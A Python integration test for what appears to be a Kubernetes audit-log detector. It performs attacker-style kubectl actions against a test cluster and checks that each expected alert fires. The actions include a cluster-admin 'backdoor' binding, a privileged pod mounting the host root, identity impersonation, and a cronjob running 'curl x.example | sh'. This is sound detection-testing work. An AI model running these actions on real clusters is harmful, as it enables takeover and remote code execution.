"""File mode: lanner follows the audit file of a real kube-apiserver while real clients do what its rules are about."""

from __future__ import annotations

import base64
import json
from collections import Counter
from collections.abc import Mapping
from types import MappingProxyType
from typing import Any, NamedTuple

import httpx
import pytest

pytestmark = pytest.mark.timeout(900)

CAROL, ALICE, BOB, NOBODY = "carol@example.com", "alice@example.com", "bob@example.com", "system:anonymous"
SHELL = "Shell opened in a sensitive namespace"
TUNNEL = "Port forwarded into a sensitive namespace"
SPDY = {"KUBECTL_REMOTE_COMMAND_WEBSOCKETS": "false", "KUBECTL_PORT_FORWARD_WEBSOCKETS": "false"}
EXEC = ("exec", "-n", "kube-system", "db-0", "--", "true")


class Deed(NamedTuple):
    """What a user does with kubectl, and the (rule, verb) that it sets off; `refused` where kubectl has to fail."""

    user: str
    arguments: tuple[str, ...]
    alerts: tuple[tuple[str, str], ...]
    given: Mapping[str, Any] = MappingProxyType({})
    env: Mapping[str, str] = MappingProxyType({})
    refused: bool = False


def webhook(url: str) -> dict[str, Any]:
    hook = {
        "name": "inject.example.io",
        "clientConfig": {"url": url},
        "failurePolicy": "Ignore",
        "sideEffects": "None",
        "admissionReviewVersions": ["v1"],
        "rules": [{"apiGroups": ["example.io"], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["x"]}],
    }
    kind = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration"}
    return kind | {"metadata": {"name": "injector"}, "webhooks": [hook]}


def privileged(name: str) -> dict[str, Any]:
    container = {"name": "app", "image": "registry.example/app:1", "securityContext": {"privileged": True}}
    spec = {"nodeName": "worker-1", "hostNetwork": True, "containers": [container]}
    spec["volumes"] = [{"name": "root", "hostPath": {"path": "/"}}]
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": "default"}, "spec": spec}


def request(name: str, cluster) -> dict[str, Any]:
    asked = base64.b64encode((cluster.folder / "pki" / "mallory.csr").read_bytes()).decode()
    spec = {"request": asked, "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}
    kind = {"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest"}
    return kind | {"metadata": {"name": name}, "spec": spec}


PLATFORM = ("-n", "kube-system")
CREATE = ("create", "-f", "-")
DEEDS = [
    Deed("carol", EXEC, ((SHELL, "get"),)),
    Deed("carol", EXEC, ((SHELL, "create"),), env=SPDY),
    # kubectl takes a refused WebSocket for a server that has none and tries SPDY: two requests, two alerts.
    Deed("alice", EXEC, ((SHELL, "get"), (SHELL, "create")), refused=True),
    Deed("alice", EXEC, ((SHELL, "create"),), env=SPDY, refused=True),
    # May get pods/exec but not create it, which kube-apiserver asks for behind the annotation that says allow.
    Deed("bob", EXEC, ((SHELL, "get"), (SHELL, "create")), refused=True),
    Deed("carol", ("exec", "-n", "default", "web-0", "--", "true"), ()),
    Deed("carol", ("get", "secrets", "-A"), (("Secrets listed across namespaces", "list"),)),
    Deed("alice", ("get", "secrets", "-A"), (("Secrets listed across namespaces", "list"),), refused=True),
    Deed(
        "carol",
        ("create", "clusterrolebinding", "backdoor", "--clusterrole=cluster-admin", "--user=mallory@example.com"),
        (("Cluster administrator granted", "create"),),
    ),
    Deed("carol", ("delete", "clusterrolebinding", "backdoor"), (("Cluster role binding removed", "delete"),)),
    Deed(
        "carol",
        ("create", "clusterrole", "all", "--verb=*", "--resource=*.*"),
        (("Role allows everything", "create"),),
    ),
    Deed(
        "carol",
        CREATE,
        (
            ("Privileged pod", "create"),
            ("Pod mounts the node's files", "create"),
            ("Pod shares the node's namespaces", "create"),
        ),
        given=privileged("root"),
    ),
    Deed("carol", ("certificate", "approve", "own"), (("Own certificate request approved", "update"),)),
    Deed("carol", ("certificate", "approve", "other"), (("Certificate request approved by hand", "update"),)),
    Deed("carol", ("create", "token", "default"), (("Service account token made by hand", "create"),)),
    Deed(
        "carol",
        ("debug", "-n", "kube-system", "db-0", "--image=busybox", "--attach=false"),
        (("Debug container added to a running pod", "patch"),),
    ),
    Deed(
        "carol",
        ("get", "--raw=/api/v1/nodes/worker-1/proxy/healthz"),
        (("Kubelet reached through the API server", "get"),),
        refused=True,  # kube-apiserver proxies to no loopback address
    ),
    Deed(
        "carol",
        ("get", "configmaps", "--as=someone", "--as-group=system:masters"),
        (("Strong identity impersonated", "list"),),
    ),
    Deed("alice", ("get", "pods", "--as=kubernetes-admin"), (("Impersonation refused", "list"),), refused=True),
    Deed(
        "carol", CREATE, (("Admission webhook sends objects outside", "create"),), given=webhook("https://x.example/")
    ),
    Deed("carol", ("delete", "mutatingwebhookconfigurations", "injector"), (("Admission webhook removed", "delete"),)),
    Deed(
        "carol",
        ("label", "namespace", "default", "pod-security.kubernetes.io/enforce=privileged"),
        (("Pod security of a namespace lowered", "patch"),),
    ),
    Deed(
        "carol",
        ("delete", "--raw=/api/v1/namespaces/default/events"),
        (("Kubernetes events deleted", "deletecollection"),),
    ),
    Deed(
        "carol",
        ("delete", "--raw=/api/v1/namespaces/default/configmaps?labelSelector=of=nobody"),
        (("Many objects deleted in one request", "deletecollection"),),
    ),
    Deed("carol", ("create", "secret", "generic", "key", *PLATFORM), ()),
    Deed("carol", ("get", "secret", "key", *PLATFORM), (("Secrets read in a sensitive namespace", "get"),)),
    Deed(
        "carol",
        ("create", "configmap", "aws-auth", *PLATFORM),
        (("Identity mapping of the cloud provider changed", "create"),),
    ),
    Deed("carol", ("create", "configmap", "coredns", *PLATFORM), (("Cluster DNS changed", "create"),)),
    Deed(
        "carol",
        ("create", "cronjob", "sync", "--image=a", "--schedule=0 0 1 1 *", "--", "sh", "-c", "curl x.example | sh"),
        (("Scheduled job fetches and runs code", "create"),),
    ),
    Deed(
        "carol",
        ("create", "clusterrolebinding", "open", "--clusterrole=view", "--group=system:unauthenticated"),
        (("Anonymous users granted rights", "create"),),
    ),
]

# What the rest of the test sets off.
MEANWHILE = [
    ("Cluster administrator granted", "kubernetes-admin", "create"),
    ("Workload placed beside the control plane", "kubernetes-admin", "create"),
    (SHELL, CAROL, "get"),
    (TUNNEL, CAROL, "get"),
    (TUNNEL, CAROL, "create"),
    ("Anonymous request refused", NOBODY, "list"),
    ("Secrets listed across namespaces", NOBODY, "list"),
    ("Anonymous request succeeded", NOBODY, "list"),
    ("Service account token made by hand", "kubernetes-admin", "create"),
    ("Service account asks what it may do", "system:serviceaccount:default:default", "create"),
]


def set_up(cluster) -> None:
    """Give the users their rights and make what they act on."""
    grant = ("create", "clusterrolebinding")
    cluster.kubectl("admin", *grant, "carol", "--clusterrole=cluster-admin", f"--user={CAROL}")
    cluster.kubectl("admin", *grant, "alice", "--clusterrole=view", f"--user={ALICE}")
    cluster.kubectl("admin", "create", "clusterrole", "half", "--verb=get", "--resource=pods,pods/exec")
    cluster.kubectl("admin", *grant, "bob", "--clusterrole=half", f"--user={BOB}")
    cluster.running_pod("db-0", "kube-system")
    cluster.running_pod("web-0", "default")
    cluster.apply("carol", request("own", cluster))
    cluster.apply("admin", request("other", cluster))


def do(cluster, deed: Deed) -> None:
    given = json.dumps(deed.given) if deed.given else ""
    done = cluster.kubectl(deed.user, *deed.arguments, given=given, check=False, **deed.env)
    if bool(done.returncode) is not deed.refused:
        pytest.fail(f"kubectl {' '.join(deed.arguments)} as {deed.user}: {done.stdout}{done.stderr}")


def forward(cluster, **env: str) -> None:
    """Open a tunnel to a pod and send a request through it."""
    with cluster.opened("carol", "port-forward", *PLATFORM, "pod/db-0", ":2379", **env) as process:
        port = process.stdout.readline().split(":")[1].split()[0]
        assert httpx.get(f"http://127.0.0.1:{port}/health").json()["health"] == "true"


def attach(cluster, watcher, until) -> None:
    """Attach to a pod until lanner has told it."""
    before = len(watcher.told(SHELL, CAROL))
    with cluster.opened("carol", "attach", *PLATFORM, "db-0"):
        until(lambda: len(watcher.told(SHELL, CAROL)) > before, "attach is told while it is open")


def ask_as_workload(cluster) -> None:
    """Use a pod's token to ask what it may do."""
    token = cluster.kubectl("admin", "create", "token", "default").stdout.strip()
    with cluster.client() as client:
        review = {"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectRulesReview"}
        url = "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews"
        asked = review | {"spec": {"namespace": "default"}}
        client.post(url, json=asked, headers={"Authorization": f"Bearer {token}"}).raise_for_status()


def told(watcher) -> Counter[tuple[str, str, str]]:
    """Rule, user and verb of each alert; the rules about nobody do not name the user."""
    fields = [(alert["rule"], alert["output_fields"]) for _, alert in watcher.alerts]
    return Counter((rule, has.get("ka.user.name", NOBODY), has["ka.verb"]) for rule, has in fields)


def test_what_people_do_with_kubectl_is_told_once_and_about_the_right_one(cluster, lanner, until, tell):
    """Exec and port-forward over both protocols, refused tries, grants, pods, certificates: none less, none more."""
    watcher = lanner({"sources": [{"type": "file", "path": str(cluster.log)}]})
    watcher.start()
    cluster.start()
    set_up(cluster)
    with cluster.client() as nobody:
        assert nobody.get("/api/v1/secrets").status_code == 403
        expected = Counter(MEANWHILE)
        for deed in DEEDS:
            do(cluster, deed)
            expected.update((rule, f"{deed.user}@example.com", verb) for rule, verb in deed.alerts)
        assert nobody.get("/api/v1/pods").status_code == 200
    for env in ({}, SPDY):
        forward(cluster, **env)
    attach(cluster, watcher, until)
    ask_as_workload(cluster)
    cluster.stop()
    events = len(cluster.log.read_bytes().splitlines())
    until(lambda: watcher.archived() == events, f"{events} events are archived")
    assert watcher.stop() == 0
    tell(f"{events} events, {expected.total()} alerts of {len({rule for rule, _, _ in expected})} rules")
    assert told(watcher) - expected == Counter()
    assert expected - told(watcher) == Counter()
    assert watcher.live() == watcher.replayed(cluster.log)
